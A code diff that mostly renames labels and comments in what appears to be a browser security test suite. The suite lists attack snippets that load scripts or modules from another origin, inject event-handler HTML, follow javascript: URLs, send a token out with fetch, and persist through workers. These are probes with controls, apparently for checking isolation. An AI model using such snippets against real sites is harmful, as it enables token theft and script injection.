@@ -30,8 +30,8 @@ export interface AttackTarget {
   readonly cookie: string;
 }
 
-/** Waits until an element is loaded. The event has no other outcome than success or an error. */
-const LOADED = `const loaded = (element, parent = document.body) => new Promise((resolve, reject) => {
+/** Functions for the code of attacks. `loaded` waits until an element is loaded, or throws after an error. */
+const HELPERS = `const loaded = (element, parent = document.body) => new Promise((resolve, reject) => {
   element.onload = () => resolve(t.reached);
   element.onerror = () => reject(new Error('refused'));
   parent.append(element);
@@ -40,8 +40,8 @@ const make = (tag, properties) => Object.assign(document.createElement(tag), pro
 const never = new Promise(() => {});
 `;
 const attack = (name: string, code: string, control?: string): BrowserAttack => ({
-  ...{ name, code: LOADED + code },
-  ...(control !== undefined && { control: LOADED + control }),
+  ...{ name, code: HELPERS + code },
+  ...(control !== undefined && { control: HELPERS + control }),
 });
 
 /** Ways to send the token to another site without leaving the page. */
@@ -92,7 +92,7 @@ const CODE = [
   attack('a script of another site', `return loaded(make('script', { src: t.other + '/x.js' }));`),
   attack('a module of another site', `await import(/* webpackIgnore: true */ t.other + '/x.js'); return t.reached;`),
   attack(
-    'a module in an address',
+    'a module in a data URL',
     `await import(/* webpackIgnore: true */ 'data:text/javascript,1'); return t.reached;`,
   ),
   attack(
@@ -105,7 +105,7 @@ const CODE = [
     `document.body.append(make('script', { textContent: 'globalThis.ran = true' })); return ran && t.reached;`,
   ),
   attack(
-    'a handler in a text',
+    'an event handler in inserted HTML',
     `document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="globalThis.handled = true">');
     await new Promise((resolve) => setInterval(() => globalThis.handled && resolve(), 10)); return t.reached;`,
   ),
@@ -115,7 +115,7 @@ const CODE = [
     return clicked && t.reached;`,
   ),
   attack(
-    'an address with code',
+    'a javascript: URL',
     `window.reach = () => fetch(t.other, { mode: 'no-cors' }); make('a', { href: 'javascript:reach()' }).click(); await never;`,
   ),
   attack(
@@ -140,7 +140,7 @@ const CODE = [
   ),
 ] as const;
 
-/** Ways to stay after the page, or to change what other pages load. */
+/** Ways to run after the page has gone, or to change what other pages load. */
 const STAYING = [
   attack(
     'worker',
@@ -189,6 +189,7 @@ const COOKIE = [
   ),
 ] as const;
 
+/** The end of an attack on the reserved global name of a container, and the control with a name that is free. */
 const RESERVED = `if (globalThis[t.container]?.fake) return t.reached; throw new Error('refused');`;
 const FREE = `globalThis.free_name = { fake: true }; if (globalThis.free_name.fake) return t.reached;`;
 
@@ -271,7 +272,7 @@ export const ACTIONS_OF_USER: readonly BrowserAttack[] = [
   attack('log out', `localStorage.clear(); return localStorage.length === 0 && t.reached;`),
 ];
 
-/** The code of the remote: `attack(name, target)` of the page tries one attack, `control(name, target)` its control. */
+/** The code of the remote. In the page, the global `attack(name, target)` tries an attack, and `control` its control. */
 export const ATTACKING_CODE = `
 const bodies = {
   attack: { ${[...BROWSER_ATTACKS, ...ACTIONS_OF_USER].map(({ name, code }) => `${JSON.stringify(name)}: async (t) => { ${code} }`).join(',\n')} },
